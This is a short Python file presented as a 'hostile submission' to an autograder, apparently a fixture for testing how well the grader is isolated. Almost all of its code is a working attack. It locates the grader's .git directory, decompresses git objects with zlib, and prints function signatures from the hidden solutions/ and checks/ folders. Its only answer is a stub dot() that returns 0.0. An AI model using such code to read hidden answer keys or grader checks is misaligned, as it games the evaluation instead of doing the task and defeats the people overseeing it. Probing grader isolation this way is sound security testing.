"""Hostile submission: read the course out of the grader's git repository.

The course folders are hidden, but the repository that holds them is not: follow HEAD to its
commit, the commit to its tree, and print the `def` lines of every file under solutions/ and
checks/ (loose objects only; zlib is all it takes), dot_product.py first.
"""

import os
import sys
import zlib

root = os.path.dirname(os.path.dirname(os.path.abspath(sys.modules["grader"].__file__)))
git = os.path.join(root, ".git")


def read_object(sha):
    with open(os.path.join(git, "objects", sha[:2], sha[2:]), "rb") as f:
        data = zlib.decompress(f.read())
    header, _, body = data.partition(b"\0")
    return header.split()[0], body


def tree_entries(body):
    while body:
        head, _, rest = body.partition(b"\0")
        _mode, name = head.split(b" ", 1)
        yield name.decode(), rest[:20].hex()
        body = rest[20:]


try:
    with open(os.path.join(git, "HEAD")) as f:
        head = f.read().strip()
    if head.startswith("ref: "):
        with open(os.path.join(git, head[5:])) as f:
            head = f.read().strip()
    _, commit = read_object(head)
    tree = commit.split(b"\n")[0].split()[1].decode()
    _, top = read_object(tree)
    folders = dict(tree_entries(top))
    for folder in ("solutions", "checks"):  # solutions first: the output is capped
        if folder not in folders:
            continue
        _, listing = read_object(folders[folder])
        for name, sha in sorted(tree_entries(listing), key=lambda e: e[0] != "dot_product.py"):
            _, text = read_object(sha)
            lines = [ln.decode() for ln in text.splitlines() if ln.startswith(b"def ")]
            print(f"GIT {folder}/{name}: " + " | ".join(lines[:10]))
except Exception as e:  # report whatever stopped the attack
    print(f"GIT refused: {type(e).__name__}: {e}")


def dot(a, b):
    return 0.0
